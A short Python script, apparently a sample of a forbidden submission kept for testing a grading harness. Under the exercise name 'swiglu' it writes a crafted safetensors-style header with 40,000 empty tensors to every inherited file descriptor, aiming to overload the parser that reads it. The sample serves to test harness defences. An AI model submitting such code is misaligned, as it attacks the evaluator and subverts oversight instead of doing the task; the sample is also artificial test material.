# Forty thousand tensors of no size: cheap to send, dear to read.
# exercise: swiglu
# status: forbidden
import json
import os
import struct


def frame(value, tensors=b""):
    header = json.dumps(value).encode()
    return struct.pack(">II", len(header), len(tensors)) + header + tensors


def everywhere(data):
    for fd in range(256):
        try:
            os.write(fd, data)
        except OSError:
            pass


tensors = {str(i): {"dtype": "U8", "shape": [0], "data_offsets": [0, 0]} for i in range(40_000)}
head = json.dumps(tensors).encode()
data = frame(1, struct.pack("<Q", len(head)) + head)
for fd in range(3, 256):
    try:
        rest = data
        os.set_blocking(fd, True)
        while rest:
            rest = rest[os.write(fd, rest) :]
    except OSError:
        pass
